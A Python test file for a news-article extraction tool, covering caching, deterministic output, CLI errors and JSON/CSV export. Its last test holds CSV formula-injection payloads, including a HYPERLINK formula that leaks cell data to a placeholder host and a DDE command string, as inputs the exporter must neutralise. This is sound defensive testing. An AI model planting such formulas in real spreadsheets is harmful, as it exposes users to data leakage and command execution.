"""The extraction run: determinism, incremental skips, all-or-nothing writes, export, CLI errors."""
import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from corpus import project  # noqa: F401  (fixture)
from generator.cli import main
from generator.briefs import extraction as pipeline
from generator.briefs.extraction import extract_all
from generator.cache.extraction import ExtractionCache, Records, brief_code_files, record_line
from generator.cache.state import state_dir

ROOT = Path(__file__).resolve().parent.parent


def snapshot(folder: Path) -> dict:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def test_extraction_is_deterministic_whatever_the_cores(project, tmp_path):
    extract_all(project / "seeds", project / "briefs", jobs=1, force=True)
    one = snapshot(project / "briefs")
    other = tmp_path / "other"
    other.mkdir()
    (other / "taxonomy.yaml").write_bytes((project / "briefs" / "taxonomy.yaml").read_bytes())
    extract_all(project / "seeds", other, jobs=2, force=True)
    assert snapshot(other) == one


def test_committed_briefs_are_up_to_date(tmp_path):
    """Re-extracting the committed seeds over the committed briefs changes nothing."""
    shutil.copytree(ROOT / "briefs", tmp_path / "briefs")
    shutil.copytree(ROOT / "model", tmp_path / "model")   # the project's sentence model, beside briefs/
    before = snapshot(tmp_path / "briefs")
    extract_all(ROOT / "seeds", tmp_path / "briefs", force=True)
    assert snapshot(tmp_path / "briefs") == before


def test_unchanged_sources_are_not_parsed_again(project):
    first = extract_all(project / "seeds", project / "briefs")
    assert len(first.skipped) == 0
    again = extract_all(project / "seeds", project / "briefs")
    assert len(again.skipped) == 5 and again.written == []
    path = project / "seeds" / "000_c1ea733ae704b2c3.txt"
    path.write_text(path.read_text(encoding="utf-8") + "\nRussia fears ISIS in Central Asia.\n", encoding="utf-8")
    third = extract_all(project / "seeds", project / "briefs")
    assert len(third.skipped) == 4
    assert any("000_c1ea733ae704b2c3" in w for w in third.written)


def test_a_bad_seed_means_nothing_is_written(project):
    (project / "seeds" / "zzz.txt").write_bytes(b"\xff\xfe broken")
    code = main(["extract", "--seeds", str(project / "seeds"), "--briefs", str(project / "briefs")])
    assert code == 1
    assert sorted(p.name for p in (project / "briefs").iterdir()) == ["taxonomy.yaml"]


def test_errors_are_one_line_naming_the_file(project):
    tax = project / "briefs" / "taxonomy.yaml"
    tax.write_text("question: x\nmotives:\n  - id: Bad Id\n", encoding="utf-8")
    proc = subprocess.run([sys.executable, "-m", "generator", "extract", "--seeds", str(project / "seeds"),
                           "--briefs", str(project / "briefs")], capture_output=True, text=True)
    assert proc.returncode == 1
    assert proc.stderr.strip().splitlines() == [
        f"error: {tax}:3:9: id 'Bad Id' must be lowercase letters, digits and hyphens"]
    assert proc.stdout == ""


@pytest.mark.parametrize("args,message", [
    (["extract", "--seeds", "nowhere"], "nowhere: seeds folder not found"),
    (["export", "--briefs", "nowhere"], "nowhere/sources: folder not found"),
])
def test_missing_folders(args, message, capsys, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "briefs").mkdir()
    (tmp_path / "briefs" / "taxonomy.yaml").write_text((ROOT / "briefs" / "taxonomy.yaml").read_text())
    assert main(args) == 1
    assert message in capsys.readouterr().err


def test_empty_seeds_folder(project, capsys):
    for p in (project / "seeds").iterdir():
        p.unlink()
    assert main(["extract", "--seeds", str(project / "seeds"), "--briefs", str(project / "briefs")]) == 1
    assert "no .txt or .md articles" in capsys.readouterr().err


def test_export_records_are_grounded_and_complete(project, capsys):
    extract_all(project / "seeds", project / "briefs")
    assert main(["export", "--briefs", str(project / "briefs")]) == 0
    recs = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    kinds = {r["kind"] for r in recs}
    assert {"motive", "counter", "actor", "quote", "event", "figure"} <= kinds
    texts = {p.stem: p.read_text(encoding="utf-8") for p in (project / "seeds").glob("*.txt")}
    for r in recs:
        assert r["source"] in texts and r["label"]
        if r["kind"] == "actor":
            assert r["name"] and r["count"] >= 1
        else:
            assert texts[r["source"]][r["start"]:r["end"]] == r["quote"]
        if r["kind"] == "counter":
            assert "rebuts" in r
        if r["kind"] == "figure":
            assert r["value"]


def test_export_csv(project, capsys):
    extract_all(project / "seeds", project / "briefs")
    assert main(["export", "--briefs", str(project / "briefs"), "--format", "csv"]) == 0
    import csv
    import io
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    assert rows[0][:11] == "kind,label,source,quote,start,end,rebuts,name,count,value,status".split(",")
    assert len(rows) > 100


def test_rejected_items_are_not_exported(project, capsys):
    extract_all(project / "seeds", project / "briefs")
    path = project / "briefs" / "sources" / "002_2352f3490b38a229.yaml"
    text = path.read_text(encoding="utf-8")
    first_motive = text.index("motives:\n")
    status_at = text.index("status: auto", first_motive)
    path.write_text(text[:status_at] + "status: rejected" + text[status_at + 12:], encoding="utf-8")
    main(["export", "--briefs", str(project / "briefs")])
    recs = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert all(r["status"] != "rejected" for r in recs)
    assert sum(1 for r in recs if r["kind"] == "motive" and r["source"].startswith("002")) == \
        text[first_motive:].split("counters:")[0].count("- id:") - 1


def test_written_files_are_ordinary_files(project):
    """Atomic writes go through mkstemp (0600); briefs end up with the usual permissions."""
    import os
    umask = os.umask(0o022)
    try:
        extract_all(project / "seeds", project / "briefs")
    finally:
        os.umask(umask)
    brief = project / "briefs" / "sources" / "000_c1ea733ae704b2c3.yaml"
    assert brief.stat().st_mode & 0o777 == 0o644


def _cache_lines(briefs: Path) -> list[bytes]:
    return (state_dir(briefs) / "extraction.jsonl").read_bytes().splitlines(keepends=True)


def test_cache_is_an_index_line_then_one_record_per_source(project):
    extract_all(project / "seeds", project / "briefs")
    first, *records = _cache_lines(project / "briefs")
    index = json.loads(first)
    assert set(index) == {"taxonomy", "sources", "state", "cross", "machine"}
    assert index["machine"] == sorted(index["cross"])   # a first run: every one the machine's
    assert len(records) == len(index["sources"]) == 5
    body = b"".join(records)
    for sid, (digest, stamp, offset) in index["sources"].items():
        record = json.loads(body[offset:body.index(b"\n", offset)])
        assert set(record) == {"counts", "actors", "cands"}
        assert stamp == pipeline.stamp(project / "briefs" / "sources" / f"{sid}.yaml")
    assert any(record["cands"] for record in map(json.loads, records))


def test_unchanged_run_reads_only_the_cache_index(project, monkeypatch):
    extract_all(project / "seeds", project / "briefs")
    before = (state_dir(project / "briefs") / "extraction.jsonl").read_bytes()

    def no(*args):
        raise AssertionError("a record was read")
    monkeypatch.setattr(ExtractionCache, "line", no)
    monkeypatch.setattr(Records, "get", no)
    again = extract_all(project / "seeds", project / "briefs")
    assert len(again.skipped) == 5 and again.written == []
    assert (state_dir(project / "briefs") / "extraction.jsonl").read_bytes() == before


def test_damaged_cached_records_are_read_from_the_briefs(project, tmp_path):
    """A record line that is not one (a truncated or edited cache) gives way to the brief's YAML."""
    briefs = project / "briefs"
    extract_all(project / "seeds", briefs)
    first, *records = _cache_lines(briefs)
    (state_dir(briefs) / "extraction.jsonl").write_bytes(first + b"".join(b"x" * (len(r) - 1) + b"\n" for r in records))
    path = project / "seeds" / "000_c1ea733ae704b2c3.txt"
    path.write_text(path.read_text(encoding="utf-8") + "\nRussia fears ISIS in Central Asia.\n", encoding="utf-8")
    assert len(extract_all(project / "seeds", briefs).skipped) == 4
    full = tmp_path / "full"
    full.mkdir()
    (full / "taxonomy.yaml").write_bytes((briefs / "taxonomy.yaml").read_bytes())
    extract_all(project / "seeds", full, force=True)
    assert snapshot(briefs) == snapshot(full)


def test_records_are_lines_in_a_spool_but_odd_ones_stay_in_memory(tmp_path):
    import datetime
    with Records(tmp_path) as records:
        plain = {"counts": {"opium": [1, 0]}, "actors": [["russia", "Russia", 2]], "cands": []}
        odd = {"counts": {}, "actors": [["russia", "Russia", datetime.date(2016, 5, 1)]], "cands": []}
        assert records.add("a", record_line(plain)) == 0
        assert records.add("b", record_line(odd)) is None
        assert records.add("c", record_line(plain)) > 0
        assert isinstance(records.where["a"], int) and records.where["b"] is odd
        assert [records.get(s) for s in "cab"] == [plain, plain, odd]
        records.reorder(["c", "b", "a"])
        assert records.ids == ["c", "b", "a"]
    assert list(tmp_path.iterdir()) == []    # the spool has no name


def test_the_code_fingerprint_covers_what_extraction_imports(tmp_path):
    # A fresh interpreter extracts the seeds (one core and two): every module of ours it
    # loaded must be in the fingerprint, or changing it would leave stale briefs behind.
    briefs = tmp_path / "briefs"
    briefs.mkdir()
    shutil.copy(ROOT / "briefs" / "taxonomy.yaml", briefs)
    script = (
        "import sys, json; from pathlib import Path; from generator.briefs.extraction import extract_all\n"
        f"b = Path({str(briefs)!r})\n"
        f"extract_all(Path({str(ROOT / 'seeds')!r}), b, b / 'taxonomy.yaml', jobs=1)\n"
        f"extract_all(Path({str(ROOT / 'seeds')!r}), b, b / 'taxonomy.yaml', jobs=2, force=True)\n"
        "print(json.dumps(sorted(m.__file__ for n, m in list(sys.modules.items())"
        " if n.split('.')[0] == 'generator')))\n")
    out = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True,
                         check=True, cwd=ROOT, timeout=120)
    loaded = {Path(f).resolve() for f in json.loads(out.stdout)}
    covered = {p.resolve() for p in brief_code_files()}
    assert loaded and loaded <= covered, sorted(map(str, loaded - covered))


def test_site_code_is_not_in_the_fingerprint():
    root = Path(pipeline.__file__).parent.parent
    names = {p.relative_to(root).as_posix() for p in brief_code_files()}
    assert {"ingest/segment.py", "text/cues.py", "analysis/summaries.py", "briefs/yamlout.py"} <= names
    assert not [n for n in names if n.startswith(("site/", "cli/"))]


def _edit_seed(project: Path, line: str) -> None:
    path = project / "seeds" / "000_c1ea733ae704b2c3.txt"
    path.write_text(path.read_text(encoding="utf-8") + f"\n{line}\n", encoding="utf-8")


def _cross_reads(monkeypatch) -> list[str]:
    """The cross-source briefs the merge reads (their names), from now on."""
    from generator.briefs import merge
    seen, load = [], merge.reader.load_text

    def counting(text, path, *args):
        if Path(path).parent.name in ("motives", "actors"):
            seen.append(f"{Path(path).parent.name}/{Path(path).name}")
        return load(text, path, *args)
    monkeypatch.setattr(merge.reader, "load_text", counting)
    return seen


def test_cross_briefs_of_the_machine_alone_are_not_read_again(project, monkeypatch, tmp_path):
    extract_all(project / "seeds", project / "briefs")
    reads = _cross_reads(monkeypatch)
    _edit_seed(project, "Russia fears ISIS in Central Asia, and the Taliban fight it.")
    report = extract_all(project / "seeds", project / "briefs")
    assert any("/motives/" in w for w in report.written) and reads == []
    # the same briefs as a run that reads every one
    other = tmp_path / "other"
    shutil.copytree(project / "briefs", other)
    extract_all(project / "seeds", other, force=True)
    assert snapshot(other) == snapshot(project / "briefs")


def test_a_person_s_edit_of_a_cross_brief_is_read_and_kept(project, monkeypatch):
    extract_all(project / "seeds", project / "briefs")
    motive = project / "briefs" / "motives" / "isis-threat.yaml"
    text = motive.read_text(encoding="utf-8")
    text = text.replace("notes: null", "notes: Checked against the UN report.  # by hand")
    motive.write_text(text, encoding="utf-8")
    reads = _cross_reads(monkeypatch)
    for n in range(2):   # the run after the edit, and the one after that
        _edit_seed(project, f"Russia fears ISIS in Central Asia ({n}).")
        extract_all(project / "seeds", project / "briefs")
        assert "motives/isis-threat.yaml" in reads
        kept = motive.read_text(encoding="utf-8")
        assert "notes: Checked against the UN report.  # by hand" in kept
    index = json.loads(_cache_lines(project / "briefs")[0])
    assert "motives/isis-threat.yaml" not in index["machine"]
    assert "motives/opium.yaml" in index["machine"]


def test_a_sidecar_added_or_changed_re_extracts_its_source(project):
    extract_all(project / "seeds", project / "briefs")
    seed = sorted((project / "seeds").glob("*.txt"))[1]
    brief = project / "briefs" / "sources" / f"{seed.stem}.yaml"
    sidecar = seed.with_name(seed.stem + ".meta.yaml")
    for outlet in ("The Diplomat", "Eurasianet"):
        sidecar.write_text(f"outlet: {outlet}\n", encoding="utf-8")
        report = extract_all(project / "seeds", project / "briefs")
        assert report.written and len(report.skipped) == 4
        assert f"outlet: {outlet}" in brief.read_text(encoding="utf-8")
    assert extract_all(project / "seeds", project / "briefs").written == []


def test_export_csv_neutralises_formulas(project, capsys):
    """Issue 20, item 10: a text cell a spreadsheet would run as a formula (OWASP's list:
    = + - @ tab, carriage return) starts with an apostrophe; JSON Lines keeps the text as is."""
    import csv
    import io
    from generator.briefs.export import to_csv
    hostile = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
               "@SUM(1,2)", "\tTab first", "\rReturn first", "plain text", "a = b"]
    recs = [{"kind": "quote", "label": text, "source": "s", "quote": text, "start": 0, "end": len(text),
             "status": "manual"} for text in hostile]
    recs.append({"kind": "actor", "label": "a", "source": "s", "name": "-Anonymous", "count": -1})
    rows = list(csv.DictReader(io.StringIO(to_csv(recs), newline="")))
    for text, row in zip(hostile, rows):
        expected = text if text in ("plain text", "a = b") else "'" + text
        assert row["quote"] == expected and row["label"] == expected
        assert row["start"] == "0"
    assert rows[-1]["name"] == "'-Anonymous" and rows[-1]["count"] == "-1"   # a number stays one
    extract_all(project / "seeds", project / "briefs")
    assert main(["export", "--briefs", str(project / "briefs"), "--format", "csv"]) == 0
    cells = [c for row in csv.reader(io.StringIO(capsys.readouterr().out, newline="")) for c in row]
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
